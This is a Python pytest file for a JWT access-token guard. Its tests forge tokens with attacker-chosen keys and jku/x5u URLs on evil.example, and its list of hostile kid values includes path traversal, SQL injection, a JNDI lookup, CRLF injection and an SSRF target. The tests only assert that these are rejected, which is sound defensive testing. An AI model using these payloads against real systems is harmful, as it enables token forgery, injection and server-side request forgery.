"""RFC 8725 §3.10 and RFC 7515 §4: header members that try to pick the key (`jwk`, `jku`,
`x5u`, `x5c`), `kid` of every type and size, duplicate members, non-canonical base64url,
`crit`. None of them may cause a request to anywhere, and none is honoured."""

from __future__ import annotations

import datetime

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from jwt.algorithms import ECAlgorithm

from .conftest import World, expect
from .forge import b64, idp_sign, parts, seg, sign_segments

pytestmark = pytest.mark.anyio


def _attacker_key() -> tuple[ec.EllipticCurvePrivateKey, dict[str, object]]:
    key = ec.generate_private_key(ec.SECP256R1())
    jwk = dict(ECAlgorithm.to_jwk(key.public_key(), as_dict=True))
    return key, jwk


def _self_signed_cert(key: ec.EllipticCurvePrivateKey) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "idp.example")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    return cert.public_bytes(serialization.Encoding.DER)


def _assert_no_traffic(world: World) -> None:
    assert world.counter.total == 0
    assert world.transport.foreign == []


async def test_embedded_keys_and_key_urls_are_never_used(world: World) -> None:
    import base64

    key, jwk = _attacker_key()
    cert = base64.b64encode(_self_signed_cert(key)).decode()
    _, payload, _ = parts(world.token())
    real_kid = world.idp.keys.active().kid
    headers = [
        {"jwk": jwk},
        {"jwk": jwk, "kid": real_kid},
        {"jku": "https://evil.example/jwks.json"},
        {"jku": "https://idp.example/jwks"},  # even the IdP's own URL is not taken from a token
        {"jku": "http://127.0.0.1:1/jwks", "kid": "attacker"},
        {"x5u": "https://evil.example/cert.pem"},
        {"x5c": [cert]},
        {"x5c": [cert], "x5t#S256": b64(b"0" * 32)},
        {"jwk": jwk, "jku": "https://evil.example/", "x5u": "https://evil.example/", "x5c": [cert]},
    ]
    for extra in headers:
        header = {"alg": "ES256", "typ": "at+jwt", "kid": "attacker", **extra}
        forged = sign_segments(key, "ES256", seg(header), seg(payload))
        expect(await world.get(forged), 401, "invalid_token", "embedded_key", world.events)
    _assert_no_traffic(world)


async def test_embedded_key_headers_refused_even_when_the_idp_signed(world: World) -> None:
    """Strict: a token carrying a key-selection header is refused whatever signed it."""
    _, jwk = _attacker_key()
    for extra in ({"jwk": jwk}, {"jku": "https://idp.example/jwks"}, {"x5u": "https://x/"}):
        token = world.token(headers=extra)
        expect(await world.get(token), 401, "invalid_token", "embedded_key", world.events)
    _assert_no_traffic(world)


@pytest.mark.parametrize(
    "kid",
    [0, 1, -1, 2**64, 1.5, True, False, [], ["k"], {}, {"kid": "k"}, "", "k" * 257, "k" * 4000],
    ids=repr,
)
async def test_kid_of_wrong_type_or_size(world: World, kid: object) -> None:
    _, payload, _ = parts(world.token())
    token = idp_sign(world.idp, {"alg": "ES256", "typ": "at+jwt", "kid": kid}, payload)
    expect(await world.get(token), 401, "invalid_token", "bad_kid", world.events)
    _assert_no_traffic(world)


HOSTILE_KIDS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/random",
    "file:///etc/passwd",
    "https://evil.example/key.pem",
    "http://127.0.0.1:6379/",
    "' OR '1'='1",
    "1; DROP TABLE keys; --",
    '" OR ""="',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%00",
    "\u0000",
    "kid\r\nX-Injected: yes",
    "\u202eevil",
    "ключ",
    "k" * 256,
]


async def test_hostile_kid_strings_are_just_unknown(world: World) -> None:
    await world.warm()
    _, payload, _ = parts(world.token())
    for i, kid in enumerate(HOSTILE_KIDS):
        token = idp_sign(world.idp, {"alg": "ES256", "typ": "at+jwt", "kid": kid}, payload)
        resp = await world.get(token)
        if i == 0:
            # The first unknown kid refetches once (#12: warm-up starts no cooldown) ...
            expect(resp, 401, "invalid_token", "unknown_kid", world.events)
        else:
            # ... which starts the cooldown: the rest wait for the next refetch (503).
            expect(resp, 503, None, "unknown_kid_pending", world.events)
        assert "X-Injected" not in str(resp.headers)
    # One JWKS fetch for all of them, and never anywhere else.
    assert world.counter.count("/jwks") == 1
    assert world.counter.total == 1
    assert world.transport.foreign == []


async def test_kid_null_is_refused_and_no_kid_needs_an_unambiguous_key(world: World) -> None:
    token = world.token()
    header, payload, _ = parts(token)
    # Issue #14: a present kid must be a string (RFC 7515 §4.1.4); null is not "absent".
    header["kid"] = None
    signed = idp_sign(world.idp, header, payload)
    expect(await world.get(signed), 401, "invalid_token", "bad_kid", world.events)
    del header["kid"]
    assert (await world.get(idp_sign(world.idp, header, payload))).status_code == 200
    # With two ES256 keys published, a kid-less token names no key.
    world.idp.rotate("ES256")
    world.guard.keys.max_age = 0  # make the guard see the new JWKS on the next request
    key = world.idp.keys.active("ES256").private_key
    signed = sign_segments(key, "ES256", seg(header), seg(payload))
    expect(await world.get(signed), 401, "invalid_token", "unknown_kid", world.events)


@pytest.mark.parametrize(
    "header_json",
    [
        '{"alg":"none","alg":"ES256","typ":"at+jwt","kid":"%s"}',
        '{"alg":"ES256","alg":"ES256","typ":"at+jwt","kid":"%s"}',
        '{"alg":"ES256","typ":"at+jwt","kid":"evil","kid":"%s"}',
        '{"alg":"ES256","typ":"JWT","typ":"at+jwt","kid":"%s"}',
        '{"alg":"ES256","\\u0061lg":"none","typ":"at+jwt","kid":"%s"}',
        '{"alg":"ES256","typ":"at+jwt","kid":"%s","x":{"a":1,"a":2}}',
    ],
)
async def test_duplicate_header_members(world: World, header_json: str) -> None:
    _, payload, _ = parts(world.token())
    raw = header_json % world.idp.keys.active().kid
    token = idp_sign(world.idp, raw, payload)
    expect(await world.get(token), 401, "invalid_token", "duplicate_member", world.events)
    _assert_no_traffic(world)


async def test_duplicate_claims(world: World) -> None:
    header, payload, _ = parts(world.token())
    base = ",".join(f'"{k}":{_json(v)}' for k, v in payload.items() if k not in ("aud", "sub"))
    for dup in (
        '"aud":"https://evil.example","aud":"https://api.example/items","sub":"alice"',
        '"aud":"https://api.example/items","sub":"alice","sub":"admin"',
        '"aud":"https://api.example/items","sub":"alice","cnf":{"jkt":"a","jkt":"b"}',
        '"aud":"https://api.example/items","sub":"alice","\\u0073ub":"admin"',
    ):
        token = idp_sign(world.idp, header, "{" + base + "," + dup + "}")
        expect(await world.get(token), 401, "invalid_token", "duplicate_member", world.events)
    _assert_no_traffic(world)


def _json(value: object) -> str:
    import json

    return json.dumps(value)


def _bump_last_char(segment: str) -> str:
    """Flip trailing bits that base64 decoders ignore: same bytes, second spelling."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    rem = len(segment) % 4
    assert rem in (2, 3), "segment has no slack bits"
    index = alphabet.index(segment[-1])
    return segment[:-1] + alphabet[index + 1]


async def test_non_canonical_base64url(world: World) -> None:
    await world.warm()
    token = world.token()
    h, p, s = token.split(".")
    # Pad the header/payload JSON so each segment has slack bits to abuse.
    header, payload, _ = parts(token)
    while len(seg(header)) % 4 not in (2, 3):
        header["x"] = header.get("x", "") + "a"
    while len(seg(payload)) % 4 not in (2, 3):
        payload["x"] = payload.get("x", "") + "a"
    good = idp_sign(world.idp, header, payload)
    assert (await world.get(good)).status_code == 200
    gh, gp, gs = good.split(".")
    cases = [
        f"{_bump_last_char(gh)}.{gp}.{gs}",
        f"{gh}.{_bump_last_char(gp)}.{gs}",
        f"{gh}.{gp}.{_bump_last_char(gs)}",  # 86 chars: 2 slack bits
        f"{h}.{p}.{s}=",  # padding
        f"{h}.{p}.{s}==",
        f"{h}+.{p}.{s}",  # base64 (not url) alphabet
        f"{h}.{p}.{s}/",
        f"{h}.{p}.{s.replace('-', '+').replace('_', '/')}"
        if "-" in s or "_" in s
        else f"{h}/.{p}.{s}",
    ]
    for bad in cases:
        expect(await world.get(bad), 401, "invalid_token", "malformed", world.events)
    # Padding inside the token is not even RFC 6750 b64token syntax: the header is malformed.
    for bad in (f"{h}=.{p}.{s}", f"{h}.{p}==.{s}"):
        expect(await world.get(bad), 400, "invalid_request", "malformed_header", world.events)
    _assert_no_traffic(world)


@pytest.mark.parametrize(
    "raw",
    [
        b"[]",
        b'"at+jwt"',
        b"null",
        b"\xef\xbb\xbf{}",  # UTF-8 BOM
        '{"alg":"ES256"}'.encode("utf-16"),
        b'{"alg":"ES256"} trailing',
        b'{"alg":"ES256",}',
        b"{'alg':'ES256'}",
        b'{"alg":"\xff"}',
        b'{"alg":"ES256","n":NaN}',
        b'{"alg":"ES256","n":Infinity}',
        b'{"alg":"ES256","n":-Infinity}',
        b'{"alg":"ES256","n":' + b"[" * 2000 + b"]" * 2000 + b"}",
        b'{"alg":"ES256","n":1' + b"0" * 5000 + b"}",
        b"",
    ],
    ids=lambda r: repr(r[:24]),
)
async def test_header_segment_that_is_not_a_json_object(world: World, raw: bytes) -> None:
    _, p, s = world.token().split(".")
    resp = await world.get(f"{b64(raw)}.{p}.{s}" if raw else f".{p}.{s}")
    expect(resp, 401, "invalid_token", "malformed", world.events)
    _assert_no_traffic(world)


@pytest.mark.parametrize(
    "crit",
    [
        {"crit": ["exp"]},
        {"crit": []},
        {"crit": "b64"},
        {"crit": ["b64"], "b64": False},
        {"crit": ["urn:example:unknown"], "urn:example:unknown": 1},
        {"crit": None},
    ],
    ids=repr,
)
async def test_crit_is_never_understood(world: World, crit: dict[str, object]) -> None:
    token = idp_sign(world.idp, {"alg": "ES256", "typ": "at+jwt", **crit}, parts(world.token())[1])
    expect(await world.get(token), 401, "invalid_token", "crit", world.events)
    _assert_no_traffic(world)


async def test_unknown_non_critical_header_members_are_ignored(world: World) -> None:
    token = world.token(headers={"x-vendor": {"nested": [1, 2]}, "cty": "JWT"})
    assert (await world.get(token)).status_code == 200
